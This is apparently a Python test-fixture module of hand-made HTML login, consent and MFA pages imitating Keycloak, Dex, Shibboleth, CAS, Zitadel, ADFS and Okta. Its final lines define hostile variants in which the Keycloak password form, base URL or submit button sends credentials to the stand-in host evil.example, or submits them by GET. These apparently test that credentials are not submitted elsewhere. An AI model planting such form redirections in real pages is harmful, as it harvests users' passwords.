"""Stand-ins for pages of identity providers that cannot run here: Keycloak, Dex, Shibboleth, CAS, Zitadel, ADFS, Okta.

They are small pages of our own, with the fields, buttons and ways on that the real ones have. Those of oidc-provider,
Canaille, Django and SimpleSAMLphp run for real, in the matrix of hubs.
"""


def page(content: str, title: str = "Sign in", script: str = "") -> str:
    return (
        f"<!DOCTYPE html><html><head><title>{title}</title><script src='/theme/app.js'></script></head>"
        f"<body {script}><h1>{title}</h1><a href='/help'>Help</a>{content}</body></html>"
    )


KEYCLOAK = page(
    "<form id='kc-form-login' onsubmit='login.disabled = true' action='/realms/campus/login?execution=1' method='post'>"
    "<label for='username'>Username or email</label><input id='username' name='username' value='' type='text'>"
    "<label for='password'>Password</label><input id='password' name='password' type='password'>"
    "<input id='rememberMe' name='rememberMe' type='checkbox'> Remember me"
    "<input type='hidden' name='credentialId'><input name='login' id='kc-login' type='submit' value='Sign In'></form>"
    "<form id='webauth' method='post'><input type='hidden' name='clientDataJSON'></form>"
    "<div id='kc-social-providers'><a href='/broker/github'>Sign in with GitHub</a></div>",
    "Sign in to campus",
)
KEYCLOAK_REFUSES = KEYCLOAK.replace(
    "<label for='password'>",
    "<span id='input-error' class='kc-feedback-text' aria-live='polite'>Invalid username or password.</span>"
    "<label for='password'>",
)
KEYCLOAK_NAME = page(
    "<form id='kc-form-login' action='/realms/campus/login?execution=1' method='post'>"
    "<input id='username' name='username' type='text'><input name='login' type='submit' value='Sign In'></form>"
)
KEYCLOAK_PASSWORD = page(
    "<span id='kc-attempted-username'>ann</span>"
    "<form id='kc-form-login' action='/realms/campus/login?execution=2' method='post'>"
    "<input id='password' name='password' type='password'><input name='login' type='submit' value='Sign In'></form>"
)
KEYCLOAK_CONSENT = page(
    "<form class='form-actions' action='/realms/campus/consent' method='POST'>"
    "<input type='hidden' name='code' value='c'>"
    "<input name='accept' id='kc-login' type='submit' value='Yes'>"
    "<input name='cancel' id='kc-cancel' type='submit' value='No'></form>",
    "Grant Access to hub",
)
KEYCLOAK_TERMS = page(
    "<div id='kc-terms-text'>Be nice.</div><form class='form-actions' action='/realms/campus/terms' method='POST'>"
    "<input name='accept' id='kc-accept' type='submit' value='Accept'>"
    "<input name='cancel' id='kc-decline' type='submit' value='Decline'></form>",
    "Terms and Conditions",
)
KEYCLOAK_UPDATES_PASSWORD = page(
    "<div class='alert-warning'>You need to change your password.</div>"
    "<form id='kc-passwd-update-form' action='/realms/campus/update' method='post'>"
    "<label for='password-new'>New Password</label><input type='password' id='password-new' name='password-new'>"
    "<label for='password-confirm'>Confirm password</label>"
    "<input type='password' id='password-confirm' name='password-confirm'><input type='submit' value='Submit'></form>",
    "Update password",
)
KEYCLOAK_OTP = page(
    "<form id='kc-otp-login-form' action='/realms/campus/otp' method='post'>"
    "<label for='otp'>One-time code</label><input id='otp' name='otp' type='text'>"
    "<input name='login' type='submit' value='Sign In'></form>"
)
KEYCLOAK_SECURITY_KEY = page(
    "<form id='webauth' action='/realms/campus/webauthn' method='post'><input type='hidden' name='clientDataJSON'>"
    "<input type='hidden' name='credentialId'></form>"
    "<input id='authenticateWebAuthnButton' type='button' value='Sign in with Security Key'>"
    "<script>function go() { $('#webauth').submit(); }</script>",
    "Security Key login",
)
KEYCLOAK_LOCKED = KEYCLOAK.replace(
    "<label for='password'>", "<div class='alert-error'>Account is temporarily disabled.</div><label for='password'>"
)
KEYCLOAK_ERROR = page(
    "<div id='kc-error-message'><p class='instruction'>Invalid parameter: redirect_uri</p></div>", "We are sorry..."
)

DEX_CONNECTORS = page(
    "<a href='/dex/auth/ldap?state=s' target='_self'><button class='btn'>Log in with LDAP</button></a>"
    "<a href='/dex/auth/github?state=s' target='_self'><button class='btn'>Log in with GitHub</button></a>",
    "Log in to dex",
)
DEX_ONE_CONNECTOR = page(
    "<a href='/dex/auth/ldap?state=s' target='_self'><button class='btn'>Log in with LDAP</button></a>", "Log in to dex"
)
DEX_PASSWORD = page(
    "<form method='post' action='/dex/auth/ldap/login?state=s'><label for='userid'>Username</label>"
    "<input required id='login' name='login' type='text' placeholder='username'>"
    "<input required id='password' name='password' type='password'>"
    "<button id='submit-login' type='submit'>Login</button></form>"
)
DEX_APPROVAL = page(
    "<form method='post'><input type='hidden' name='req' value='r1'>"
    "<input type='hidden' name='approval' value='approve'>"
    "<button type='submit'><span>Grant Access</span></button></form>"
    "<form method='post'><input type='hidden' name='req' value='r1'><input type='hidden' name='approval' "
    "value='rejected'><button type='submit'><span>Cancel</span></button></form>",
    "Grant Access",
)

SHIBBOLETH_STORAGE = page(
    "<form name='form1' action='/idp/SSO?execution=e1s1' method='post'>"
    "<input type='hidden' name='csrf_token' value='t'>"
    "<input type='hidden' name='shib_idp_ls_success.shib_idp_session_ss' value='false'>"
    "<input type='hidden' name='_eventId_proceed'>"
    "<noscript><input type='submit' value='Continue'></noscript></form>",
    "Loading Session Information",
    "onload='doLoad()'",
)
SHIBBOLETH_LOGIN = page(
    "<form action='/idp/SSO?execution=e1s2' method='post'><input type='hidden' name='csrf_token' value='t'>"
    "<label for='username'>Username</label><input id='username' name='j_username' type='text'>"
    "<label for='password'>Password</label><input id='password' name='j_password' type='password'>"
    "<input type='checkbox' name='donotcache' value='1'>Don't Remember Login"
    "<button type='submit' name='_eventId_proceed'>Login</button></form>"
)
SHIBBOLETH_CONSENT = page(
    "<form action='/idp/SSO?execution=e1s3' method='post'><input type='hidden' name='csrf_token' value='t'>"
    "<input id='uid' type='checkbox' name='_shib_idp_consentIds' value='uid' checked>"
    "<input type='radio' name='_shib_idp_consentOptions' value='_shib_idp_doNotRememberConsent'>"
    "<input type='radio' name='_shib_idp_consentOptions' value='_shib_idp_rememberConsent' checked>"
    "<input type='submit' name='_eventId_AttributeReleaseRejected' value='Reject'>"
    "<input type='submit' name='_eventId_proceed' value='Accept'></form>",
    "Information Release",
)


def saml_response(target: str) -> str:
    return (
        "<html><body onload='document.forms[0].submit()'><noscript><p>Press Continue.</p></noscript>"
        f"<form action='{target}' method='post'><input type='hidden' name='RelayState' value='r'>"
        "<input type='hidden' name='SAMLResponse' value='PHNhbWw+'>"
        "<noscript><input type='submit' value='Continue'></noscript></form></body></html>"
    )


# As in the public templates of CAS 6 and 7: loginform.html, submitbutton.html and casConfirmView.html.
_OF_CAS = "<input type='hidden' name='execution' value='e1s1'>"
CAS = page(
    "<form method='post' id='fm1' action='login'><label for='username'><input id='username' type='text' required "
    "name='username' value='' autocomplete='username'><span>Username</span></label>"
    "<label for='password'><input type='password' id='password' required name='password' value=''></label>"
    "<button class='reveal-password' type='button'>Toggle Password</button>"
    "<input type='checkbox' name='rememberMe' id='rememberMe'>"
    f"{_OF_CAS}<input type='hidden' name='_eventId' value='submit'><input type='hidden' name='geolocation'>"
    "<button name='submit' accesskey='l' type='submit'><span>Login</span></button></form>"
    f"<form method='post' id='providerDiscoveryForm'>{_OF_CAS}<input type='hidden' name='_eventId' value='discovery'>"
    "<button>Select your provider</button></form><a href='/cas/login?reset'>Reset your password</a>",
    "Login - CAS",
)
CAS_REFUSES = CAS.replace(
    "<label for='username'>",
    "<div id='loginErrorsPanel' class='banner banner-danger'><p>Authentication attempt has failed.</p></div>"
    "<label for='username'>",
)
CAS_CONFIRMS = page(
    f"<form method='post' id='fm1'>{_OF_CAS}<input type='hidden' name='_eventId' value='success'>"
    "<input id='ignorewarn' name='ignorewarn' type='checkbox'><label for='ignorewarn'>Do not warn me again</label>"
    "<button id='continueButton' type='submit'><span>Continue</span></button></form>",
    "You asked to be warned before logging into applications",
)

# As in the templates of Zitadel's own login: login.html, password.html and mfa_prompt.html.
_OF_ZITADEL = (
    "<input type='hidden' name='gorilla.csrf.Token' value='t'><input type='hidden' name='authRequestID' value='1'>"
)
ZITADEL_NAME = page(
    f"<form action='/ui/login/loginname' method='POST'>{_OF_ZITADEL}"
    "<input type='text' id='loginName' name='loginName' value='' autocomplete='username' required>"
    "<button id='submit-button' type='submit'>Next</button>"
    "<button name='register' value='true' formnovalidate>Register</button></form>",
    "Welcome Back!",
)
ZITADEL_PASSWORD = page(
    f"<form action='/ui/login/password' method='POST'>{_OF_ZITADEL}"
    "<input type='hidden' name='loginName' value='ann'><input type='password' id='password' name='password' required>"
    "<a href='/ui/login/loginname'><button type='button'>Back</button></a>"
    "<button id='submit-button' type='submit'>Next</button></form>",
    "Password",
)
ZITADEL_2FA = page(
    f"<form action='/ui/login/mfa/prompt' method='POST'>{_OF_ZITADEL}"
    "<input id='0' type='radio' name='provider' value='0' required><label>Authenticator App</label>"
    "<input id='1' type='radio' name='provider' value='1' required><label>Fingerprint</label>"
    "<button name='skip' value='true' type='submit' formnovalidate>Skip</button><button type='submit'>Next</button>"
    "</form>",
    "2-Factor Setup",
)

ADFS = page(
    "<form method='post' id='loginForm' action='/adfs/ls/?SAMLRequest=x'>"
    "<input id='userNameInput' name='UserName' type='email' placeholder='someone@example.com'>"
    "<input id='passwordInput' name='Password' type='password'>"
    "<input type='checkbox' name='Kmsi' id='kmsiInput' value='true'><span id='submitButton'>Sign in</span>"
    "<input id='optionForms' type='hidden' name='AuthMethod' value='FormsAuthentication'></form>"
)
STAY_SIGNED_IN = page(
    "<form method='post' action='/kmsi'><input type='hidden' name='flowToken' value='f'>"
    "<input type='submit' id='idBtn_Back' value='No'><input type='submit' id='idSIButton9' value='Yes'></form>",
    "Stay signed in?",
)
OKTA = page("<div id='okta-sign-in'></div><script>new OktaSignIn({}).renderEl()</script>", "campus - Sign In")
CAPTCHA = KEYCLOAK.replace(
    "<input id='rememberMe'", "<div class='g-recaptcha' data-sitekey='k'></div><input id='rememberMe'"
)
REALMS = KEYCLOAK.replace(
    "<input id='rememberMe'",
    "<label for='o'>Organisation</label><select id='o' name='realm' required><option value=''>Choose</option>"
    "<option value='staff'>Staff</option></select><input id='rememberMe'",
)
SENDS_ELSEWHERE = KEYCLOAK.replace("action='/realms", "action='https://evil.example/realms")
BASE_ELSEWHERE = KEYCLOAK.replace("<head>", "<head><base href='https://evil.example/'>")
BUTTON_ELSEWHERE = KEYCLOAK.replace("value='Sign In'", "value='Sign In' formaction='https://evil.example/realms'")
BY_GET = KEYCLOAK.replace("method='post'>", "method='get'>", 1)
BUTTON_BY_GET = KEYCLOAK.replace("value='Sign In'", "value='Sign In' formmethod='get'")
BY_SCRIPT = KEYCLOAK.replace("action='/realms/campus/login?execution=1'", "action='javascript:void(0)'")
NOWHERE = KEYCLOAK.replace("action='/realms/campus/login?execution=1'", "action='http://['")
CONSENT_NOWHERE = KEYCLOAK_CONSENT.replace("action='/realms/campus/consent'", "action='http://['")
